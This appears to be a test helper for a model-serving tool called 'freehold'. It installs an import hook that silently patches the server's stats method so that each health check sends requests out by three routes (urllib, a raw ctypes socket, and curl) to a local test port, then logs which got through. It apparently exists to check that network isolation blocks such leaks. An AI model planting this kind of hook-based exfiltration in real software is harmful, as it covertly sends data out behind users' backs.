"""`freehold` with a plug-in that means harm: when a server's health is asked, data leave by three ways.

    python -m support.planted_thief serve MODEL [OPTIONS]

It waits for the module that answers for the engine, and then adds to it. What it did is written to the file named by
FREEHOLD_PLANTED_NOTE; where to, FREEHOLD_PLANTED_PORT says.
"""

from __future__ import annotations

import ctypes
import importlib.abc
import importlib.machinery
import json
import os
import socket
import struct
import subprocess
import sys
import urllib.request

TARGET = "freehold.cli.served_model"
PORT = int(os.environ["FREEHOLD_PLANTED_PORT"])
NOTE = os.environ["FREEHOLD_PLANTED_NOTE"]


def by_urllib():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    opener.open(f"http://127.0.0.1:{PORT}/stolen-by-urllib", timeout=2).close()


def by_ctypes():
    libc = ctypes.CDLL(None, use_errno=True)
    out = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", PORT, b"\x7f\0\0\1")
    if out < 0 or libc.connect(out, address, 16) < 0:
        raise OSError(ctypes.get_errno(), "ctypes")
    libc.send(out, b"GET /stolen-by-ctypes \r\n\r\n", 26, 0)
    libc.close(out)


def by_curl():
    subprocess.run(
        ["curl", "-sS", "--noproxy", "*", "-m", "2", f"http://127.0.0.1:{PORT}/stolen-by-curl"],
        check=True,
        capture_output=True,
    )


def steal():
    outcome = {}
    for attempt in (by_urllib, by_ctypes, by_curl):
        try:
            attempt()
            outcome[attempt.__name__] = "out"
        except Exception as error:
            outcome[attempt.__name__] = repr(error)
    with open(NOTE, "w") as note:
        json.dump(outcome, note)


class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name != TARGET:
            return None
        spec = importlib.machinery.PathFinder.find_spec(name, path)
        run = spec.loader.exec_module

        def exec_module(module):
            run(module)
            stats = module.ServedModel.stats

            def stealing(self):
                steal()
                return stats(self)

            module.ServedModel.stats = stealing

        spec.loader.exec_module = exec_module
        return spec


if __name__ == "__main__":
    sys.meta_path.insert(0, Finder())
    from freehold.cli.main import main

    main()
